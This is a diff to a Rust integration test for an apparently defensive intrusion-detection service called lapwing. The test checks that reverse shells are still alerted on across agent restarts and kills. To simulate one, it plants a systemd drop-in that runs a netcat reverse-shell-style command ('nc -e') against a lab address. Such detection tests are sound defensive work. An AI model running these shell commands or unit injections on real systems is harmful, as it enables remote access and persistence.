@@ -44,10 +44,11 @@ fn the_service_from_installation_to_purge() {
     an_attacker_is_there(&guest);
     a_reverse_shell_is_alerted_to(&guest, 4001, 1);
 
-    guest.run("systemctl restart lapwing");
-    let told = alerts(&guest, LOST, 1);
-    assert!(told[0]["event"]["start"].as_str() < told[0]["event"]["end"].as_str(), "{told:?}");
-    a_reverse_shell_is_alerted_to(&guest, 4002, 2);
+    nothing_is_missed_while_it_is_started_again(&guest);
+    guest.run("systemctl stop lapwing && systemctl start lapwing");
+    let told = alerts(&guest, LOST, 2);
+    assert!(told[1]["event"]["start"].as_str() < told[1]["event"]["end"].as_str(), "{told:?}");
+    a_reverse_shell_is_alerted_to(&guest, 4002, 4);
     its_log_can_be_rotated(&guest);
     it_is_replaced_when_it_dies_or_hangs(&guest);
 
@@ -126,6 +127,36 @@ fn a_reverse_shell_is_alerted_to(guest: &Guest, port: u16, count: usize) {
     assert_eq!(alert["process"]["args"][1], "-e", "{alert}");
     let hash = guest.run("sha256sum $(readlink -f /bin/nc)");
     assert_eq!(alert["process"]["hash"]["sha256"].as_str(), hash.split(' ').next(), "{alert}");
+}
+
+/// A shell that is opened between two runs of the agent is alerted to. Only where the agent was killed there is a time of
+/// which something may be missing, and that is told.
+fn nothing_is_missed_while_it_is_started_again(guest: &Guest) {
+    // What comes before the agent in its unit runs while there is none.
+    guest.run(
+        "mkdir -p /run/systemd/system/lapwing.service.d
+         cat > /run/systemd/system/lapwing.service.d/between.conf <<'END'
+[Service]
+RestartSec=100ms
+ExecStartPre=+/bin/sh -c '! pgrep -x lapwing && nc -e /bin/true 10.88.0.2 4020; true'
+END
+         systemctl daemon-reload",
+    );
+    for (end, alerts_until_then, told_as_lost) in
+        [("systemctl restart lapwing", 2, "0"), ("systemctl kill --signal=KILL lapwing", 3, "1")]
+    {
+        guest.run(end);
+        let told = alerts(guest, RULE, alerts_until_then);
+        let between = &told[alerts_until_then - 1];
+        assert_eq!(between["destination"]["port"], 4020, "{end}: {between}");
+        assert_eq!(between["lapwing"]["alert"]["complete"], true, "{end}: {between}");
+        let status: Json = serde_json::from_str(&guest.until("lapwing status --json", WAIT)).unwrap();
+        let sensor = &status["lanes"][0]["source"];
+        assert!(sensor["taken_over"]["records"].as_u64() > Some(0), "{end}: {sensor}");
+        assert_eq!(sensor["taken_over"]["lost"], 0, "{end}: {sensor}");
+        assert_eq!(guest.run(&format!("grep --count '{LOST}' {LOG}; true")), told_as_lost, "{end}: {sensor}");
+    }
+    guest.run("rm -r /run/systemd/system/lapwing.service.d && systemctl daemon-reload");
 }
 
 /// The alerts of the rule in the log, once there are that many.
